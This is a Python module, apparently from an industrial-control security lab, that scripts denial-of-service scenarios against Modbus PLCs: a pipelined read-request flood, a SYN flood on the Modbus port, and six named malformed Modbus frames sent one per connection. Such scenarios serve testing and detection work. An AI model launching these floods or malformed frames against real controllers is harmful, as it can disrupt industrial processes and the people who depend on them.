"""Denial of service: Modbus request flood, SYN flood, malformed frames."""

from __future__ import annotations

import struct

from sentinel.lab import ops
from sentinel.lab.ops import Script
from sentinel.lab.scenarios import ScenarioContext
from sentinel.lab.scenarios._common import pick_plc, unit_of


def modbus_flood(ctx: ScenarioContext) -> Script:
    """Pipelines read requests back to back on one connection, as fast as it can."""
    target = pick_plc(ctx)
    rng = ctx.rng
    unit = unit_of(ctx, target)
    count = int(ctx.params.get("count", 1000))
    size = ctx.site.plc(target).tables.holding
    tid = rng.randint(0, 0xFFFF)
    adus = tuple(ops.adu(tid + i, unit, ops.read(3, 0, min(size, 10))) for i in range(count))
    conn = yield ops.Connect(target)
    if conn is None:
        return
    answered = yield ops.Burst(conn, adus, float(ctx.params.get("interval", 0.001)), 1.0)
    ctx.notes["answered"] = answered
    yield ops.Close(conn)


def syn_flood(ctx: ScenarioContext) -> Script:
    target = pick_plc(ctx)
    yield ops.SynFlood(
        target,
        ops.MODBUS_PORT,
        int(ctx.params.get("count", 2000)),
        float(ctx.params.get("interval", 0.0005)),
    )


def _mbap(tid: int, pid: int, length: int, unit: int) -> bytes:
    return struct.pack(">HHHB", tid, pid, length, unit)


def malformed_frames(ctx: ScenarioContext, unit: int, tid: int) -> list[tuple[str, bytes]]:
    """The malformed ADUs the scenario sends, one per connection (named for the notes)."""
    return [
        ("invalid_protocol_id", _mbap(tid, 0x4D42, 6, unit) + ops.read(3, 0, 1)),
        ("length_beyond_data", _mbap(tid + 1, 0, 200, unit) + ops.read(3, 0, 1)),
        ("length_too_short", _mbap(tid + 2, 0, 4, unit) + ops.read(3, 0, 1)[:3]),
        ("coil_value", _mbap(tid + 3, 0, 6, unit) + struct.pack(">BHH", 5, 0, 0x1234)),
        ("byte_count", _mbap(tid + 4, 0, 9, unit) + bytes.fromhex("100000000204000a")),
        ("garbage", bytes(ctx.rng.getrandbits(8) for _ in range(24))),
    ]


def malformed(ctx: ScenarioContext) -> Script:
    target = pick_plc(ctx)
    rng = ctx.rng
    frames = malformed_frames(ctx, unit_of(ctx, target), rng.randint(1, 60000))
    rng.shuffle(frames)
    frames = frames[: int(ctx.params.get("frames", len(frames)))]
    for _name, data in frames:
        conn = yield ops.Connect(target)
        if conn is None:
            return
        yield ops.Send(conn, data)
        yield ops.Sleep(float(ctx.params.get("wait", 0.5)))
        yield ops.Close(conn)
        yield ops.Sleep(rng.uniform(0.05, 0.3))
    ctx.notes["frames"] = [name for name, _ in frames]
